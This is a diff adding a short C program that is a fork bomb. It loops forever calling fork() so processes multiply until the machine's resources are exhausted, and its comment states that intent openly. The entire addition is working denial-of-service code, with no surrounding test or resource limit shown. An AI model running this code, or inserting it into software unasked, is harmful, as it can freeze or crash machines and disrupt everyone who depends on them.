@@ -1,0 +1,8 @@
+/* Doubles itself for ever. */
+#include <unistd.h>
+
+int main(void)
+{
+    for (;;)
+        (void)!fork();
+}
